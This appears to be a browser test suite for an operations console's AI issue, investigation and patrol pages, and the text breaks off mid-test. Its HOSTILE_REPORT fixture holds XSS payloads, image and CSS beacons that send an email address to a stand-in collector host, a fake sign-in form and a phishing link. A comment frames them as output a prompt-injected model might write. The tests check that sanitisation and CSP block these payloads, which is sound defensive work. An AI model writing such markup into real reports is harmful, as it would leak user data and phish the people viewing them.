import { randomUUID } from 'node:crypto';
// The console's AI pages in a real browser (Debian Chromium) through the whole
// local service on a demo fleet, without an LLM provider: AI issues grouped by
// the rules (marked so) with their filters in the URL and triage with `me`;
// investigations written by the rules engine with their Markdown report
// rendered and sanitised, their filters in the URL and the pending tasks; a
// patrol triggered from the console (202, polled) ending in a rendered report;
// viewers get no trigger and no triage; axe on every page.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { handler as recompute } from '../../functions/recompute.js';
import type { LocalService } from '../../infra/local/service.js';
import { aiIssuesChanged, writeAiGrouping } from '../../shared/db/ai-issues.js';
import { claimTask, completeTask, createTask } from '../../shared/db/investigations.js';
import { acquireLock, releaseLock } from '../../shared/db/locks.js';
import { createReport, finishReport } from '../../shared/db/patrol.js';
import { PATROL_LOCK } from '../../shared/patrol/lock.js';
import { registerLocalWorker } from '../../shared/worker-invoke.js';
import { addUser, api, apiLogin, expectAccessible, launchBrowser, signIn, type TestBrowser } from '../support/browser.js';
import { startTestService } from '../support/local-service.js';
import { SCHEDULE_TRIGGER } from '../../shared/patrol/schedule.js';

const PASSWORD = 'console-ai-admin-password';
const VIEWER = { email: 'vic-viewer@example.com', password: 'vic-ai-viewer-password' };
let service: LocalService;
let browser: TestBrowser;
let admin: string;
let adminPage: Page;
let viewerPage: Page;
let pendingTaskId: string;
const HOSTILE_ID = `console-ai-hostile-${Date.now()}`;

beforeAll(async () => {
  delete process.env.SES_FROM_ADDRESS;
  delete process.env.LLM_PROVIDER;
  process.env.PATROL_WAIT_SECONDS = '0'; // the trigger answers 202 at once: the console polls the report
  service = await startTestService({ adminPassword: PASSWORD, demoClusters: 16 });
  [browser, admin] = await Promise.all([launchBrowser(service.url), apiLogin(service.url, 'admin', PASSWORD)]);
  await addUser(service.url, admin, { email: VIEWER.email, name: 'Vic Viewer', role: 'viewer', password: VIEWER.password });

  // AI issues (rule-grouped) and agent tasks from a recompute; the tasks are then investigated by the worker,
  // and one more task is left pending for the pending-tasks list.
  registerLocalWorker('agent-worker', async () => undefined);
  await recompute();
  const { handler: agentWorker } = await import('../../functions/agent-worker.js');
  await agentWorker({});
  const { body } = await api(service.url, admin, 'GET', '/api/investigations?page_size=1');
  const one = body.investigations[0];
  pendingTaskId = `console-ai-${Date.now()}`;
  await createTask(
    { ...base(one), task_id: pendingTaskId, trigger_reason: 'console-ai test: waiting for the worker', priority: 321 },
    new Date(Date.now() + 60_000).toISOString(),
  );

  // An investigation whose report carries what an LLM could be tricked into writing: the console must not keep or run it.
  const hostileTask = { ...base(one), task_id: `${HOSTILE_ID}-task`, cluster_id: `${one.cluster_id}-h`, trigger_reason: 'hostile report' };
  await createTask(hostileTask, new Date(Date.now() + 60_000).toISOString());
  const claimed = await claimTask(hostileTask.task_id, 'console-ai-test', 60_000);
  await completeTask(claimed!, {
    ...one,
    investigation_id: HOSTILE_ID,
    task_id: hostileTask.task_id,
    cluster_id: hostileTask.cluster_id,
    root_cause: 'hostile markdown',
    created_at: new Date().toISOString(),
    full_report: HOSTILE_REPORT,
  });

  [adminPage, viewerPage] = await Promise.all([browser.page(), browser.page()]);
  await Promise.all([signIn(adminPage, 'admin', PASSWORD), signIn(viewerPage, VIEWER.email, VIEWER.password)]);
}, 180_000);

function base(one: any) {
  return {
    task_id: '',
    cluster_id: one.cluster_id as string,
    cluster_name: one.cluster_name as string,
    customer_name: one.customer_name as string,
    customer_tier: 'S',
    trigger_reason: '',
    priority: 1,
    created_at: new Date().toISOString(),
  };
}

const HOSTILE_REPORT = [
  '## Findings',
  '',
  '<script>window.__owned = 1</script>',
  '',
  '<img src="x" onerror="window.__owned = 2">',
  '',
  // What a prompt-injected model might write to carry fleet data out through every viewer's browser.
  '![status](https://collector.example.net/p.png?emails=ops%40acme.example) <img src="https://collector.example.net/q.png">',
  '',
  '<p style="background: url(https://collector.example.net/r.png)">styled</p>',
  '',
  // Other elements and attributes a browser fetches a URL for (DOMPurify's default set keeps them).
  '<video poster="https://collector.example.net/v.png" src="https://collector.example.net/v.mp4"></video>',
  '<audio src="https://collector.example.net/a.mp3"></audio> <picture><source srcset="https://collector.example.net/s.png"></picture>',
  '<table background="https://collector.example.net/t.png"><tr><td>bg</td></tr></table>',
  '',
  '<iframe src="https://example.com"></iframe>',
  '',
  // What restyles or fakes the console: a page-wide style sheet, a sign-in form, an overlay, SVG's own link and filter.
  '<style>body { display: none }</style>',
  '<form action="/login"><label>Password <textarea name="p"></textarea></label><button>Sign in again</button></form>',
  '<div popover="manual" id="over">Session expired</div>',
  '<svg><a href="https://collector.example.net/svg">svg link</a><filter><feImage href="https://collector.example.net/f.png"/></filter></svg>',
  // The console's own alert box, announced as one, with a phishing link; hidden, reversed, moving and folded text.
  '<div class="state problem" role="alert" id="main" data-x="1" aria-live="assertive"><strong>Unauthorized (401)</strong><p>Session ended. <a href="https://phish.example.org/login">Sign in again</a></p></div>',
  '<bdo dir="rtl">reversed</bdo> <span hidden class="visually-hidden">hidden words</span> <marquee>moving</marquee> <details open><summary>more</summary>folded</details>',
  '',
  '[click me](javascript:window.__owned=3) and [docs](https://example.com/runbook), [Mail the team](mailto:ops@example.org), https://example.net/plain and [the fleet](/)',
  '',
  // An address as its own text, whose host is not what it reads as first.
  '[https://bank.example@phish.example.org/](https://bank.example@phish.example.org/)',
  '',
  '| metric | value |',
  '|---|---|',
  '| disk | 97% |',
].join('\n');

afterAll(async () => {
  delete process.env.PATROL_WAIT_SECONDS;
  await browser?.close();
  await service?.stop();
});

/**
 * An AI issue as an LLM grouping stores it (writeAiGrouping, what the grouping run calls), last seen 3 days ago so the
 * other tests' newest issue stays a demo cluster's; its name (`Tag-xxxxxxxx`) once the lists know of it.
 */
async function storeOldAiIssue(
  tag: string,
  fields: Pick<Parameters<typeof writeAiGrouping>[0], 'status' | 'alert_count' | 'resolved_at' | 'ai_summary' | 'ai_reasoning'>,
): Promise<string> {
  const name = `${tag[0]!.toUpperCase()}${tag.slice(1)}-${randomUUID().slice(0, 8)}`;
  const now = Date.now();
  await writeAiGrouping({
    issue_id: `console-ai-${tag}-${now}`,
    issue_name: name,
    severity: 'Warning',
    cluster_id: `console-ai-${tag}-cluster-${now}`,
    cluster_name: `${tag}-cluster`,
    customer_name: `${tag[0]!.toUpperCase()}${tag.slice(1)} Customer`,
    alert_keys: [],
    first_seen: new Date(now - 3 * 86_400_000 - 30 * 60_000).toISOString(),
    last_seen: new Date(now - 3 * 86_400_000).toISOString(),
    grouped_by: 'llm:gpt-4o-mini',
    ...fields,
  });
  await aiIssuesChanged();
  return name;
}

/** Ends a running patrol report as a model's scan of one healthy cluster that flagged nothing, its narrative `narrative`. */
const completeQuietly = (reportId: string, narrative: string) =>
  finishReport(reportId, {
    status: 'completed',
    model: 'gpt-4o-mini',
    fleet_summary_parsed: { total_clusters: 1, critical: 0, warning: 0, healthy: 1, headline: 'console-ai: nothing flagged' },
    clusters_flagged_parsed: [],
    customer_summaries_parsed: [],
    fleet_narrative: narrative,
  });

const answered = (page: Page, path: string) =>
  page.waitForResponse((r) => new URL(r.url()).pathname === path && r.request().method() === 'GET' && r.status() === 200);

describe('AI issues', { timeout: 90_000 }, () => {
  const count = (page: Page) => page.locator('.issues-count').textContent();

  it('lists what the API answers with the AI summary, reasoning and the rule-based mark; status and search filters round-trip through the URL', async () => {
    const first = answered(adminPage, '/api/ai-issues');
    await adminPage.goto('/ai-issues');
    await adminPage.getByRole('heading', { level: 1, name: 'AI issues' }).waitFor();
    const all = await (await first).json();
    expect(all.total).toBeGreaterThan(0);
    const top = all.issues[0];
    await adminPage.getByRole('link', { name: top.issue_name }).first().waitFor();
    await expect.poll(() => count(adminPage)).toContain(all.total === 1 ? '1 AI issue' : `${all.total} AI issues`);
    await adminPage.getByText(top.ai_summary, { exact: true }).first().waitFor();
    await adminPage.getByText(top.ai_reasoning, { exact: true }).first().waitFor();
    expect(await adminPage.getByText('Rule-based grouping').count()).toBeGreaterThan(0);
    await expectAccessible(adminPage, '/ai-issues');

    const status = top.status as string;
    const filtered = answered(adminPage, '/api/ai-issues');
    await adminPage.getByRole('combobox', { name: 'Status', exact: true }).selectOption(status);
    await adminPage.waitForURL((u) => u.searchParams.get('status') === status);
    const narrowed = await (await filtered).json();
    expect(narrowed.total).toBeGreaterThan(0); // the status is a listed issue's: `every` on an empty list proves nothing
    expect(narrowed.issues.every((i: { status: string }) => i.status === status)).toBe(true);

    await adminPage.getByLabel('Search').fill(top.cluster_name);
    await adminPage.waitForURL((u) => u.searchParams.get('search') === top.cluster_name);
    const expected = (await api(service.url, admin, 'GET', `/api/ai-issues?status=${status}&search=${encodeURIComponent(top.cluster_name)}`)).body;
    const text = expected.total === 1 ? '1 AI issue' : `${expected.total} AI issues`;
    await expect.poll(() => count(adminPage)).toContain(text);

    await adminPage.reload();
    await expect.poll(() => count(adminPage)).toContain(text);
    expect(await adminPage.getByRole('combobox', { name: 'Status', exact: true }).inputValue()).toBe(status);
    expect(await adminPage.getByLabel('Search').inputValue()).toBe(top.cluster_name);
    await adminPage.getByRole('link', { name: expected.issues[0].issue_name }).first().waitFor();
    await expectAccessible(adminPage, '/ai-issues filtered');
  });

  it('fits 1280 × 800 without a sideways scroll: every column, Assignee the last, in view', async () => {
    const size = adminPage.viewportSize();
    await adminPage.setViewportSize({ width: 1280, height: 800 });
    try {
      await adminPage.goto('/ai-issues');
      await adminPage.getByRole('heading', { level: 1, name: 'AI issues' }).waitFor();
      const table = adminPage.locator('.issues-page .table-scroll');
      await table.locator('tbody tr').first().waitFor();
      const box = await table.evaluate((el: { scrollWidth: number; clientWidth: number }) => ({ scroll: el.scrollWidth, client: el.clientWidth }));
      expect(box.scroll).toBeLessThanOrEqual(box.client);
      const assignee = table.getByRole('columnheader', { name: 'Assignee', exact: true });
      const [head, frame] = [await assignee.boundingBox(), await table.boundingBox()];
      expect(head).not.toBeNull();
      expect(head!.x + head!.width).toBeLessThanOrEqual(frame!.x + frame!.width);
      // Each header's label, without the sort mark of a column the service sorts by.
      const labels = (await table.getByRole('columnheader').allTextContents()).map((t) => t.replace(/[↕▲▼]$/, ''));
      expect(labels).toEqual(expect.arrayContaining(['Triage', 'Assignee', 'Last seen (UTC) · duration', 'AI summary · reasoning']));
    } finally {
      if (size) await adminPage.setViewportSize(size);
    }
  });

  it("shows a model's Markdown summary and reasoning as their first line's words in the list, rendered on the issue's page", async () => {
    // Its texts in Markdown, as a model writes them.
    const name = await storeOldAiIssue('markdown', {
      status: 'Ongoing',
      alert_count: 2,
      resolved_at: null,
      ai_summary: '## Summary\n\n**Disk** on `node_1` is at *97%*; see [the runbook](https://runbooks.example.com/disk).\n\n- second point',
      ai_reasoning: '**Grouped**: both alerts are __disk__ pressure on disk_used_pct.',
    });
    await adminPage.goto(`/ai-issues?search=${encodeURIComponent(name)}`);
    const row = adminPage.getByRole('row').filter({ has: adminPage.getByRole('link', { name }) });
    await row.waitFor();
    const [summary, reasoning] = await row.locator('.ai-clamp').all();
    expect(await summary!.textContent()).toBe('Disk on node_1 is at 97%; see the runbook.');
    expect(await summary!.getAttribute('title')).toBe('Summary Disk on node_1 is at 97%; see the runbook. second point');
    expect(await reasoning!.textContent()).toBe('Grouped: both alerts are disk pressure on disk_used_pct.');

    // Its own page renders them, sanitised, as the patrol's narrative is: a heading, bold, code and a link, no marks.
    await row.getByRole('link', { name }).click();
    const summaryText = adminPage.getByRole('region', { name: 'AI summary' });
    await summaryText.getByRole('heading', { name: 'Summary' }).waitFor();
    expect(await summaryText.locator('strong').textContent()).toBe('Disk');
    expect(await summaryText.locator('code').textContent()).toBe('node_1');
    expect(await summaryText.getByRole('link', { name: /the runbook/ }).getAttribute('href')).toBe('https://runbooks.example.com/disk');
    expect(await summaryText.textContent()).not.toContain('**');
    const reasoningText = adminPage.getByRole('region', { name: 'AI reasoning' });
    expect(await reasoningText.locator('strong').allTextContents()).toEqual(['Grouped', 'disk']);
    expect(await reasoningText.textContent()).toContain('disk_used_pct');
    await expectAccessible(adminPage, '/ai-issues/{id} with Markdown texts');
  });

  it('writes its counts of a thousand and more with a thousands separator, as every page does (1,234, not 1234)', async () => {
    // An issue the grouping stored with 1,234 alerts.
    const name = await storeOldAiIssue('thousand', {
      status: 'Resolved',
      alert_count: 1234,
      resolved_at: new Date(Date.now() - 3 * 86_400_000).toISOString(),
      ai_summary: 'A storm of alerts.',
      ai_reasoning: 'One cause.',
    });
    const { total_alerts } = (await api(service.url, admin, 'GET', '/api/ai-issues/kpis?days=7')).body;
    expect(total_alerts).toBeGreaterThanOrEqual(1234);
    await adminPage.goto(`/ai-issues?search=${encodeURIComponent(name)}`);
    const row = adminPage.getByRole('row').filter({ has: adminPage.getByRole('link', { name }) });
    await row.waitFor();
    expect(await row.locator('td.num').first().textContent()).toBe('1,234');
    const tile = adminPage
      .locator('.tile')
      .filter({ has: adminPage.getByText('Alerts grouped', { exact: true }) })
      .locator('.value');
    await expect.poll(() => tile.textContent()).toBe(total_alerts.toLocaleString('en'));
  });

  it('the issue page shows the linked alerts and the rule-based mark; an admin assigns it to "me"; a viewer gets no triage', async () => {
    const { body } = await api(service.url, admin, 'GET', '/api/ai-issues');
    const issue = body.issues[0];
    const detail = (await api(service.url, admin, 'GET', `/api/ai-issues/${encodeURIComponent(issue.issue_id)}`)).body;
    await adminPage.goto(`/ai-issues/${encodeURIComponent(issue.issue_id)}`);
    await adminPage.getByRole('heading', { level: 1, name: issue.issue_name }).waitFor();
    await adminPage.getByText('Rule-based grouping.').waitFor();
    expect(await adminPage.locator('.issue-timeline li').count()).toBe(detail.alerts.length);
    expect(detail.alerts.length).toBe(issue.alert_count);
    await adminPage.getByRole('button', { name: 'Save triage' }).waitFor();
    await expectAccessible(adminPage, '/ai-issues/{id}');

    await adminPage.getByLabel('Assignee').selectOption('me');
    await adminPage.getByLabel('Triage status').fill('Investigating');
    const saved = adminPage.waitForResponse((r) => r.request().method() === 'PATCH' && new URL(r.url()).pathname === `/api/ai-issues/${issue.issue_id}`);
    await adminPage.getByRole('button', { name: 'Save triage' }).click();
    expect((await saved).status()).toBe(200);
    const read = await api(service.url, admin, 'GET', `/api/ai-issues/${encodeURIComponent(issue.issue_id)}`);
    expect(read.body.issue).toMatchObject({ triage_status: 'Investigating', assignee: 'admin' });
    await adminPage.locator('.issue-saved').getByText('admin', { exact: true }).waitFor();
    // The form now holds what is stored (`me` stored as admin): nothing left to save, and no change "by someone else while you edited".
    await expect.poll(() => adminPage.getByRole('button', { name: 'Save triage' }).isDisabled()).toBe(true);
    expect(await adminPage.getByText('while you edited', { exact: false }).count()).toBe(0);
    expect(await adminPage.getByLabel('Assignee').inputValue()).toBe('admin');

    await viewerPage.goto(`/ai-issues/${encodeURIComponent(issue.issue_id)}`);
    await viewerPage.getByRole('heading', { level: 1, name: issue.issue_name }).waitFor();
    await viewerPage.getByText(issue.ai_summary, { exact: true }).first().waitFor();
    expect(await viewerPage.getByRole('button', { name: 'Save triage' }).count()).toBe(0);
    expect(await viewerPage.getByLabel('Assignee').count()).toBe(0);
    await expectAccessible(viewerPage, '/ai-issues/{id} as a viewer');
  });
  it("counts the notes' characters as it writes their limit, whatever the browser's language (not 1.234 / 10,000)", async () => {
    const { body } = await api(service.url, admin, 'GET', '/api/ai-issues');
    const issue = body.issues[0] as { issue_id: string; issue_name: string };
    const page = await browser.page();
    await (await page.context().newCDPSession(page)).send('Emulation.setLocaleOverride', { locale: 'de-DE' });
    await signIn(page, 'admin', PASSWORD, `/ai-issues/${encodeURIComponent(issue.issue_id)}`);
    await page.getByRole('heading', { level: 1, name: issue.issue_name }).waitFor();
    expect(await page.evaluate('(1234).toLocaleString()')).toBe('1.234');
    await page.getByLabel('Notes').fill('n'.repeat(1234));
    await page.getByText('1,234 / 10,000', { exact: true }).waitFor();
    await page.context().close();
  });

  it('starts the triage form afresh when the page moves to another AI issue (no unsaved notes carried over), and keeps each issue’s unsaved edit in the tab', async () => {
    const { body } = await api(service.url, admin, 'GET', '/api/ai-issues');
    const [a, b] = body.issues as { issue_id: string; issue_name: string }[];
    expect((await api(service.url, admin, 'PATCH', `/api/ai-issues/${encodeURIComponent(b!.issue_id)}`, { notes: 'B stored notes' })).status).toBe(200);
    // An in-app move (only :issueId changes, the page stays mounted), as a link would do it.
    const moveTo = (id: string) =>
      adminPage.evaluate(
        `history.pushState(null, '', ${JSON.stringify(`/ai-issues/${encodeURIComponent(id)}`)}); window.dispatchEvent(new PopStateEvent('popstate'))`,
      );
    // B first, so its answer is cached and shows at once when opened again.
    await adminPage.goto(`/ai-issues/${encodeURIComponent(b!.issue_id)}`);
    await adminPage.getByRole('heading', { level: 1, name: b!.issue_name }).waitFor();
    await moveTo(a!.issue_id);
    await adminPage.getByRole('heading', { level: 1, name: a!.issue_name }).waitFor();
    await adminPage.getByLabel('Notes').fill('unsaved notes on A');
    expect(await adminPage.getByRole('button', { name: 'Save triage' }).isEnabled()).toBe(true);

    await moveTo(b!.issue_id);
    await adminPage.getByRole('heading', { level: 1, name: b!.issue_name }).waitFor();
    expect(await adminPage.getByLabel('Notes').inputValue()).toBe('B stored notes');
    expect(await adminPage.getByRole('button', { name: 'Save triage' }).isDisabled()).toBe(true);

    // A's unsaved notes were kept in the tab: back on A (or after a reload, or a session that ended) they are there.
    await moveTo(a!.issue_id);
    await adminPage.getByRole('heading', { level: 1, name: a!.issue_name }).waitFor();
    expect(await adminPage.getByLabel('Notes').inputValue()).toBe('unsaved notes on A');
    await adminPage.reload();
    await adminPage.getByRole('heading', { level: 1, name: a!.issue_name }).waitFor();
    await expect.poll(() => adminPage.getByLabel('Notes').inputValue()).toBe('unsaved notes on A');
    expect(await adminPage.getByRole('button', { name: 'Save triage' }).isEnabled()).toBe(true);
    // Discarded, nothing is kept.
    await adminPage.getByRole('button', { name: 'Discard changes' }).click();
    await adminPage.reload();
    await adminPage.getByRole('heading', { level: 1, name: a!.issue_name }).waitFor();
    await expect.poll(() => adminPage.getByRole('button', { name: 'Save triage' }).isDisabled()).toBe(true);
    expect(await adminPage.getByLabel('Notes').inputValue()).not.toBe('unsaved notes on A');
  });
});

describe('investigations', { timeout: 90_000 }, () => {
  const count = (page: Page) => page.locator('.inv-results .ai-count').textContent();

  it('lists investigations with KPIs and the pending task; severity, customer and days round-trip through the URL', async () => {
    const first = answered(adminPage, '/api/investigations');
    await adminPage.goto('/investigations');
    await adminPage.getByRole('heading', { level: 1, name: 'Investigations' }).waitFor();
    const all = await (await first).json();
    expect(all.total).toBeGreaterThan(0);
    const kpis = (await api(service.url, admin, 'GET', '/api/investigations/kpis')).body;
    await expect.poll(() => count(adminPage)).toContain(all.total === 1 ? '1 investigation' : `${all.total} investigations`);
    await adminPage.locator('.tile', { hasText: 'Investigations' }).getByText(String(kpis.total_investigations), { exact: true }).waitFor();
    await adminPage.getByRole('link', { name: all.investigations[0].cluster_name }).first().waitFor();
    const tasks = adminPage.getByRole('region', { name: 'Agent tasks' });
    await tasks.getByText('console-ai test: waiting for the worker').waitFor();
    await tasks.getByText('321', { exact: true }).waitFor();
    await expectAccessible(adminPage, '/investigations');

    const target = all.investigations[0];
    await adminPage.getByLabel('Severity').selectOption(target.severity);
    await adminPage.waitForURL((u) => u.searchParams.get('severity') === target.severity);
    const part = target.customer_name.slice(0, Math.max(3, target.customer_name.length - 2));
    await adminPage.getByLabel('Customer').fill(part);
    await adminPage.waitForURL((u) => u.searchParams.get('customer') === part);
    await adminPage.getByLabel('Window (days)').fill('7');
    await adminPage.waitForURL((u) => u.searchParams.get('days') === '7');
    const expected = (await api(service.url, admin, 'GET', `/api/investigations?days=7&severity=${target.severity}&customer=${encodeURIComponent(part)}`)).body;
    expect(expected.total).toBeGreaterThan(0);
    const text = expected.total === 1 ? '1 investigation' : `${expected.total} investigations`;
    await expect.poll(() => count(adminPage)).toContain(text);

    await adminPage.reload();
    await expect.poll(() => count(adminPage)).toContain(text);
    expect(await adminPage.getByLabel('Severity').inputValue()).toBe(target.severity);
    expect(await adminPage.getByLabel('Customer').inputValue()).toBe(part);
    expect(await adminPage.getByLabel('Window (days)').inputValue()).toBe('7');
    await expectAccessible(adminPage, '/investigations filtered');
  });

  it("an investigation's back link leads to the list with the filters it was left with; opened directly, to the plain list", async () => {
    const target = (await api(service.url, admin, 'GET', '/api/investigations')).body.investigations[0];
    const list = `/investigations?days=7&severity=${target.severity}`;
    await adminPage.goto(list);
    await adminPage.locator('.inv-results').getByRole('link', { name: target.cluster_name }).first().click();
    await adminPage.waitForURL((u) => u.pathname.startsWith('/investigations/'));
    const back = adminPage.getByRole('link', { name: '← Investigations', exact: true });
    expect(await back.getAttribute('href')).toBe(list);
    await back.click();
    await adminPage.waitForURL((u) => u.pathname + u.search === list);
    expect(await adminPage.getByLabel('Severity').inputValue()).toBe(target.severity);
    await adminPage.goto(`/investigations/${encodeURIComponent(target.investigation_id)}`);
    expect(await back.getAttribute('href')).toBe('/investigations');
  });

  it('renders the full Markdown report, sanitised, with its facts', async () => {
    const { body } = await api(service.url, admin, 'GET', '/api/investigations');
    const written = body.investigations.find((i: { investigation_id: string }) => i.investigation_id !== HOSTILE_ID);
    const inv = (await api(service.url, admin, 'GET', `/api/investigations/${encodeURIComponent(written.investigation_id)}`)).body;
    expect(inv.model).toBe('rules');
    expect(inv.full_report.length).toBeGreaterThan(0);
    await viewerPage.goto(`/investigations/${encodeURIComponent(inv.investigation_id)}`);
    await viewerPage.getByRole('heading', { level: 1, name: `Investigation of ${inv.cluster_name}` }).waitFor();
    const report = viewerPage.getByRole('region', { name: 'Full investigation report' });
    await report.waitFor();
    // rendered, not raw: Markdown marks become elements once marked and DOMPurify have loaded
    await expect.poll(() => report.evaluate((el) => el.querySelectorAll('h1,h2,h3,h4,p,li,table').length)).toBeGreaterThan(0);
    expect(await report.evaluate((el) => el.querySelectorAll('script,iframe,[onerror],[onclick]').length)).toBe(0);
    const firstHeading = /^#+\s+(.+)$/m.exec(inv.full_report)?.[1];
    if (firstHeading)
      await report
        .getByRole('heading', { name: firstHeading.replace(/[*_`]/g, '').trim() })
        .first()
        .waitFor();
    await viewerPage.getByText(inv.root_cause, { exact: true }).first().waitFor();
    // The page's one h1 is its own; the report's outline starts under the section's h2.
    expect(await viewerPage.locator('h1').count()).toBe(1);
    const levels = await report.locator('h1,h2,h3,h4,h5,h6').evaluateAll((hs) => hs.map((h) => Number(h.tagName[1])));
    if (firstHeading) expect(Math.min(...levels)).toBe(3);
    await expectAccessible(viewerPage, '/investigations/{id}');
  });

  it('sanitises a hostile report: no script, handler, iframe, image, style, form, SVG, overlay or javascript: link kept or run; links get rel=noopener, and name their host when it is another site', async () => {
    await viewerPage.goto(`/investigations/${HOSTILE_ID}`);
    const report = viewerPage.getByRole('region', { name: 'Full investigation report' });
    await report.getByRole('heading', { name: 'Findings' }).waitFor();
    await report.getByRole('cell', { name: '97%' }).waitFor();
    const html = await report.evaluate((el) => el.innerHTML);
    expect(html).not.toMatch(
      /<script|<iframe|<img|<video|<audio|<source|<style|<form|<textarea|<button|<svg|<feImage|popover|onerror|style=|poster=|srcset=|background=|collector\.example|href="javascript:/i,
    );
    expect(await viewerPage.locator('body').isVisible()).toBe(true);
    await report.getByText('styled').waitFor();
    // Raw HTML keeps only what Markdown writes: the fake alert box is plain text and a link, nothing hidden or reversed.
    await report.getByText('Session ended.', { exact: false }).waitFor();
    await report.getByText('hidden words', { exact: false }).waitFor();
    const ours = ':not(.markdown-table):not(.markdown-link-host)';
    const unmarked = `[class]${ours}, [role]${ours}, [id], [hidden], [dir], [data-x], [aria-live], div${ours}, span${ours}, bdo, marquee, details, summary`;
    expect(await report.locator(unmarked).count()).toBe(0);
    expect(await viewerPage.evaluate(() => (globalThis as unknown as { __owned?: number }).__owned)).toBeUndefined();
    const docs = report.getByRole('link', { name: 'docs' });
    expect(await docs.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await docs.getAttribute('target')).toBe('_blank');
    // A link to another site says whose it is after its text, unless its text is that address; the console's own links do not.
    const hosts = await report.locator('.markdown-link-host').evaluateAll((spans) => spans.map((s) => [s.previousElementSibling?.textContent, s.textContent]));
    expect(hosts).toEqual([
      ['Sign in again', ' (phish.example.org)'],
      ['docs', ' (example.com)'],
      ['Mail the team', ' (mailto:ops@example.org)'],
      ['https://bank.example@phish.example.org/', ' (phish.example.org)'],
    ]);
    expect(await report.getByRole('link', { name: 'https://example.net/plain' }).getAttribute('target')).toBe('_blank');
    expect(await report.getByRole('link', { name: 'the fleet' }).getAttribute('target')).toBeNull();
    expect(await report.getByRole('link', { name: 'click me' }).count()).toBe(0);
    await expectAccessible(viewerPage, '/investigations/{hostile}');
  });

  it("loads no image from another origin, whatever gets into the page (the console's Content-Security-Policy)", async () => {
    let beacons = 0;
    const collector = createServer((_req, res) => {
      beacons += 1;
      res.writeHead(200, { 'Content-Type': 'image/gif' }).end();
    });
    await new Promise<void>((r) => collector.listen(0, '127.0.0.1', () => r()));
    try {
      const url = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/beacon.gif`;
      await viewerPage.goto(`/investigations/${HOSTILE_ID}`);
      await viewerPage.getByRole('region', { name: 'Full investigation report' }).getByRole('heading', { name: 'Findings' }).waitFor();
      // Past any sanitiser: an image and a CSS background written straight into the document.
      const refused = (await viewerPage.evaluate(`(async (src) => {
        const seen = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
        const img = document.createElement('img');
        img.src = src;
        const div = document.createElement('div');
        div.style.backgroundImage = 'url(' + src + '?css)';
        document.body.append(img, div);
        await new Promise((r) => setTimeout(r, 500));
        return seen;
      })(${JSON.stringify(url)})`)) as string[];
      expect(refused).toContain('img-src');
      expect(beacons).toBe(0);
    } finally {
      await new Promise<void>((r) => collector.close(() => r()));
    }
  });
});

describe("a cluster's page", { timeout: 90_000 }, () => {
  it('lists its AI issues and its investigations, each linking to its own page', async () => {
    const hrefs = (rows: ReturnType<Page['locator']>) => rows.locator('tbody th a').evaluateAll((links) => links.map((a) => a.getAttribute('href')));

    // Investigations: the cluster's own, asked for by its id, newest first.
    const investigated = (await api(service.url, admin, 'GET', '/api/investigations?page_size=100')).body.investigations.find(
      (i: { investigation_id: string }) => i.investigation_id !== HOSTILE_ID, // the hostile one names a cluster not in the fleet
    );
    const own = (await api(service.url, admin, 'GET', `/api/investigations?cluster_id=${encodeURIComponent(investigated.cluster_id)}&page_size=100`)).body;
    expect(own.total).toBeGreaterThan(0);
    await viewerPage.goto(`/clusters/${encodeURIComponent(investigated.cluster_id)}`);
    await viewerPage.getByRole('heading', { level: 1, name: investigated.cluster_name }).waitFor();
    const investigations = viewerPage.getByRole('region', { name: 'Investigations', exact: true });
    await expect
      .poll(() => hrefs(investigations))
      .toEqual(own.investigations.map((i: { investigation_id: string }) => `/investigations/${encodeURIComponent(i.investigation_id)}`));
    expect(await investigations.locator('tbody').textContent()).toContain(own.investigations[0].root_cause);
    await expectAccessible(viewerPage, '/clusters/{id} with investigations');

    // AI issues: those of this cluster in the window, apart from its alert issues, each linking to the AI issue.
    const aiIssues = (await api(service.url, admin, 'GET', '/api/ai-issues?days=30&page_size=100')).body.issues as { cluster_id: string; issue_id: string }[];
    expect(aiIssues.length).toBeGreaterThan(0);
    const cluster = aiIssues[0]!.cluster_id;
    const mine = aiIssues.filter((i) => i.cluster_id === cluster).map((i) => `/ai-issues/${encodeURIComponent(i.issue_id)}`);
    await viewerPage.goto(`/clusters/${encodeURIComponent(cluster)}`);
    const section = viewerPage.getByRole('region', { name: 'AI issues', exact: true });
    // Its open and past parts are asked for apart; both shown once both have answered (poll's 1 s would race them under load).
    await section.getByRole('heading', { name: /^Past \(/ }).waitFor();
    await expect.poll(async () => (await hrefs(section)).sort()).toEqual(mine.sort());
    const alertIssues = viewerPage.getByRole('region', { name: 'Alert issues', exact: true });
    await alertIssues
      .getByText(/No alert issue|Open \(/)
      .first()
      .waitFor();
    expect((await hrefs(alertIssues)).every((href) => href?.startsWith('/issues/'))).toBe(true);
    await section.locator('tbody th a').first().click();
    await viewerPage.waitForURL((u) => mine.includes(u.pathname));
  });
});

describe('patrol', { timeout: 120_000 }, () => {
  it('shows the empty state and KPIs before any report; a viewer gets no trigger', async () => {
    await viewerPage.goto('/patrol');
    await viewerPage.getByRole('heading', { level: 1, name: 'Patrol' }).waitFor();
    await viewerPage.getByText('No completed patrol report yet.').waitFor();
    expect(await viewerPage.getByRole('button', { name: 'Trigger patrol' }).count()).toBe(0);
    // No report, no average: a dash, not "0.0 s".
    const tile = (label: string) =>
      viewerPage
        .locator('.tile')
        .filter({ has: viewerPage.getByText(label, { exact: true }) })
        .locator('.value');
    await expect.poll(() => tile('Completed reports').textContent()).toBe('0');
    expect(await tile('Average duration').textContent()).toBe('—');
    await expectAccessible(viewerPage, '/patrol (empty) as a viewer');
  });

  it('a patrol triggered from the console (202, polled with progress) ends in a rendered report', async () => {
    await adminPage.goto('/patrol');
    await adminPage.getByRole('heading', { level: 1, name: 'Patrol' }).waitFor();
    await adminPage.getByText('No completed patrol report yet.').waitFor();
    const accepted = adminPage.waitForResponse((r) => new URL(r.url()).pathname === '/api/patrol/trigger');
    await adminPage.getByRole('button', { name: 'Trigger patrol' }).click();
    const answer = await accepted;
    expect(answer.status()).toBe(202);
    const { report_id: reportId, status } = await answer.json();
    expect(status).toBe('running');
    await adminPage.getByText('Scan completed.').waitFor({ timeout: 90_000 });

    const report = (await api(service.url, admin, 'GET', `/api/patrol/${reportId}`)).body;
    expect(report).toMatchObject({ status: 'completed', model: 'rules' });
    const latest = adminPage.locator('.patrol-latest');
